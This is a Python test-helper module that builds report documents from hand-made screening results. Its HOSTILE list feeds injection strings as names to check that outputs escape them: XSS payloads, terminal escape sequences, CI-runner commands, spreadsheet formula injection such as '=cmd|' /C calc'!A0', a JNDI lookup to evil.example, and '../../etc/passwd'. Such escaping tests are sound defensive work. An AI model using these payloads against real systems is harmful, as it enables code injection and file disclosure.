"""Documents of rankings made by hand, for the tests of the formats that are documents."""

import math

from lyapscreen.report.document import Document
from lyapscreen.report.text import advice, answer
from lyapscreen.results.ranking import rank
from lyapscreen.results.records import Measures, Regime, Result
from lyapscreen.spec.candidates import Candidate, Configuration
from lyapscreen.spec.spec import Spec
from tests.helpers.rankings import DEAD, DIV, RESULTS, SPEC, C, S, X, facts_of

HOSTILE = (
    "<script>window.hacked = 1</script>",
    '"><img src=x onerror="window.hacked = 1">',
    "</script><script>window.hacked = 1</script>",
    "</style></title></textarea><svg onload='window.hacked = 1'>",
    "--!><script>window.hacked = 1</script>",
    "' onmouseover='window.hacked = 1",
    "{{7*7}}{% raw %}",
    "a|b`c`*d*_e_ [f](javascript:window.hacked=1) $\\frac{ @all\n#1",
    "\x00\x1b[31m\udc80]]>&lt;",
    "日本語😀",
    "x" * 400,
    # Terminals: colours, titles, links, clipboard, C1 controls, a bell, backspaces and carriage returns.
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGFja2Vk\x07",
    "\x9b2J\x9b31m",
    "\x1bP$q\x1b\\",
    "a\b\b\b\bb",
    "safe\rError",
    "\x07\x07",
    "\x7f\x1bc",
    "\u0085next\u2028line\u2029part",
    # The direction of writing, and what is not seen at all.
    "\u202eevitisnes\u202c",
    "\u2066x\u2069\u200e\u200f",
    "re\u200blu\ufeff",
    "\U000e0041\U000e0042",
    "zalgo\u0301\u0302\u0303",
    # Consoles that read markup.
    "[/]",
    "[red]x[/red]",
    "[link=file:///etc/passwd]x",
    ":warning:",
    "[bold",
    "\\[/]",
    "[@click=app.bell]x[/]",
    # Runners of CI.
    "x\n::add-mask::y",
    "::stop-commands::t",
    "##[error]x",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[x]",
    " ::set-output name=a::b",
    "a\r\n::error::b",
    "::warning file=a::" + "y" * 990 + "::error::z",
    # Spreadsheets.
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://evil.example")',
    # Markdown.
    "![x](http://evil.example/x.png)",
    "<details><summary>",
    "|a|b|\n|-|-|",
    "```\nx\n```",
    "http://evil.example/ www.evil.example",
    "#1 GH-1 user/repo#2",
    "<!-- x -->",
    "[x]: http://evil.example",
    "&lt;script&gt;",
    "\\|x",
    # Formulas, templates, formats, paths.
    "${jndi:ldap://evil.example}",
    "%s%n{0}{x!r}",
    "../../etc/passwd",
    "$x^2$",
    "#{7*7}",
    "<svg/onload=window.hacked=1>",
)
"""Names that would run, break out of where they stand, or not be written at all."""


def one(act, lr, seed=0, regime=C, value=-0.01, *, lyapunov=0.01, loss=0.5, steps=100, settings=(), local=(), why=""):
    """One result whose measures are as given, however odd."""
    measures = Measures(regime, steps, value, value, lyapunov, train_loss=loss, held_out_loss=loss, held_out_score=0.5)
    return Result(Candidate(Configuration(act, lr, settings), seed), (measures,), local, why)


def document(results=RESULTS, spec=SPEC, rank_by="effective", **more):
    """The document of results, as a screening would put it into words."""
    ranking = rank(results, rank_by)
    facts = facts_of(ranking, rank(results, rank_by, at=50), spec)
    sentences = answer.sentences(ranking, facts)
    warnings = advice.warnings(ranking, spec)
    versions = {"torch": "2.13.0", "lyapscreen": "0.1.0"}
    return Document(ranking, spec, "0123456789abcdef", versions, "accuracy", tuple(sentences), tuple(warnings),
                    facts=tuple(facts), **more)  # fmt: skip


def hostile():
    """Every name in the hands of somebody else."""
    results = [
        one(name, lr, seed, value=-lr - place / 100, settings=(("<img src=x onerror=x>", other),), local=(0.1, 0.2))
        for place, (name, other) in enumerate(zip(HOSTILE, HOSTILE[::-1], strict=True))
        for lr in (0.01, 0.1)
        for seed in (0, 1)
    ]
    last = results[-1].candidate.configuration.settings
    results += [one("relu", 1.0, seed, Regime.FAILED, None, settings=last, why=HOSTILE[0]) for seed in (0, 1)]
    spec = Spec.of(data=HOSTILE[0], target=HOSTILE[1], lr="0.01,0.1,1", seeds=2)
    return document(results, spec, notices=HOSTILE)


def halved():
    """Some stopped at 25 and 50 of 100 steps, some diverged or failed; local exponents as far as each went."""

    def seeds(act, lr, regime, value, steps):
        local = tuple(0.03 * math.cos(place / 4) for place in range(20 * steps // 100))
        for seed in range(3):
            mean = None if value is None else value + 0.001 * seed
            yield one(act, lr, seed, regime, mean, lyapunov=mean and lr / 20, steps=steps, local=local)

    return [
        *seeds("tanh", 0.001, S, -0.0001, 25),
        *seeds("tanh", 0.01, C, -0.02, 50),
        *seeds("tanh", 0.1, C, -0.04, 100),
        *seeds("tanh", 1.0, DIV, None, 7),
        *seeds("relu", 0.001, S, -0.0002, 25),
        *seeds("relu", 0.01, C, -0.03, 100),
        *seeds("relu", 0.1, X, 0.01, 25),
        *seeds("relu", 1.0, Regime.FAILED, None, 0),
        *seeds("elu", 0.1, DEAD, -0.001, 25),
    ]


ODD = {
    "nothing": [],
    "one learning rate": [one(act, 0.1, seed) for act in ("relu", "tanh") for seed in range(3)],
    "one seed": [one("relu", lr) for lr in (0.1, 1.0)],
    "all diverged": [
        one("relu", lr, seed, DIV, None, lyapunov=None, loss=None) for lr in (0.1, 1.0) for seed in (0, 1)
    ],
    "not finite": [
        one("relu", lr, seed, C, math.nan, lyapunov=math.inf, loss=-math.inf, local=(math.nan, None, 1e308))
        for lr in (0.1, 1.0)
        for seed in (0, 1)
    ],
    "huge and tiny": [
        *(one("relu", lr, s, X, 1e300, lyapunov=1e307, loss=1e307) for lr in (1e-300, 1e300) for s in (0, 1)),
        *(one("tanh", lr, s, C, -1e-300, lyapunov=1e-320, loss=5e-324) for lr in (5e-324, 1e308) for s in (0, 1)),
    ],
    "far apart": [
        one("relu", lr, s, C, lr - 0.02, lyapunov=10 * lr, loss=lr**3) for lr in (0.01, 1, 99) for s in (0, 1)
    ],
    "negative losses": [one("relu", lr, s, loss=-lr) for lr in (0.01, 1.0) for s in (0, 1)],
    "a loss of 0": [one("relu", lr, s, value=0.0, lyapunov=0.0, loss=lr - 0.01) for lr in (0.01, 1.0) for s in (0, 1)],
    "wide intervals": [one("relu", lr, s, value=s * 5.0 - 0.1) for lr in (0.01, 1.0) for s in (0, 1)],
    "130 families": [one(f"act{i}", 0.1, s, value=-i / 1e4 + s / 1e5) for i in range(130) for s in (0, 1)],
}
"""Results that a figure or a table could stumble over."""
